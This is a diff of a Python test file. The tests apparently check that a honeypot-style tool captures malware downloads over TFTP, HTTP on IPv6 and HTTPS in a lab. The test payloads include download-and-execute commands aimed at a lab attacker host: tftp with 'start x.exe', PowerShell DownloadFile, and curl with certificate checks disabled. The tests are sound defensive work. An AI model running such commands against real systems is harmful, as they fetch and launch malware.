@@ -90,10 +90,14 @@ def test_ftp_falls_back_to_passive_mode(
     _downloaded(run_attack(lab, payload, {"ftpDownload": {}}), data)
 
 
-def test_tftp_windows_command_fetches_the_sample(lab: Lab, sample: tuple[Path, bytes]) -> None:
+@pytest.mark.parametrize("family", ["ip4", "ip6"])
+def test_tftp_windows_command_fetches_the_sample(
+    lab: Lab, sample: tuple[Path, bytes], family: str
+) -> None:
     root, data = sample
-    start(lab, lab.attacker, "tftp", str(root), lab.attacker.ip4)
-    payload = f"tftp -i {lab.attacker.ip4} GET x.exe\r\nstart x.exe\r\n".encode()
+    ip = getattr(lab.attacker, family)
+    start(lab, lab.attacker, "tftp", str(root), ip)
+    payload = f"tftp -i {ip} GET x.exe\r\nstart x.exe\r\n".encode()
     download = _downloaded(run_attack(lab, payload, {"tftpDownload": {}}), data)
     assert (download["type"], download["protocol"]) == ("tftp", "udp")
 
@@ -115,6 +119,15 @@ def test_http_powershell_line_over_ipv6_fetches_the_sample(
         "powershell -c \"(New-Object Net.WebClient).DownloadFile("
         f"'http://[{lab.attacker.ip6}]:{port}/x.exe','%TEMP%\\x.exe')\""
     ).encode()
+    _downloaded(run_attack(lab, payload, {"httpDownload": {}}), data)
+
+
+def test_https_with_a_self_signed_certificate_fetches_the_sample(
+    lab: Lab, sample: tuple[Path, bytes]
+) -> None:
+    root, data = sample
+    port = start(lab, lab.attacker, "http", str(root), lab.attacker.ip4, "tls", os.devnull)
+    payload = f"curl -k -o /tmp/x https://{lab.attacker.ip4}:{port}/x.exe".encode()
     _downloaded(run_attack(lab, payload, {"httpDownload": {}}), data)
 
 
